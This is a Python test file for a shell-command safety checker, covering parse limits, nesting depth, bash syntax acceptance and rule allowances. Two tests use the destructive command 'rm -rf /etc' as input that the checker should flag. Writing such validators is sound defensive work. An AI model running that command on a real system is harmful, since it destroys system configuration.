def test_a_long_valid_command_is_checked_not_refused_by_the_chunk_parse(text: str) -> None:
    assert len(text) > 4 * MAX_ERROR_PARSE
    assert {v.rule for v in check_command(text)} <= {"remote-code"}, check_command(text)
    assert "system-paths" in {v.rule for v in check_command(text + "\nrm -rf /etc")}


@pytest.mark.parametrize("text", [_fill("a=("), _fill("${a "), _fill("$("), _fill("((")])
def test_text_nested_past_the_lexer_limit_is_refused_unparsed(text: str) -> None:
    (violation,) = check_command(text)
    assert violation.rule == "nesting-too-deep"
    assert "open at once" in violation.matched


@pytest.mark.parametrize(
    "text",
    [
        "ls *.@(c|h) !(x) +(a) ?(b) *(c)",
        "local a=(1 2); a+=(3); declare -A m=([k]=v)",
        "[[ $x =~ ^(a|b)$ ]]",
        "case $x in (a) echo a;; b) echo b;; esac",
        "f() { :; }; function g() { :; }",
        "cat <<EOF > /tmp/x\nline\nEOF\n",
        "cmd 2>&1 >/dev/null </dev/null",
        "# comment\n\n# another\nls  # trailing\n" * 3,
    ],
)
def test_what_bash_takes_is_no_syntax_error(text: str) -> None:
    assert split(text) is not None


def test_a_site_that_allows_too_complex_has_the_text_walked_past_the_limits() -> None:
    text = _commands(COMMAND_LIMITS.commands + 1) + "rm -rf /etc\n"
    assert {v.rule for v in check_command(text)} == {"too-complex"}
    assert {v.rule for v in check_command(text, allowed=["too-complex"])} == {"system-paths"}
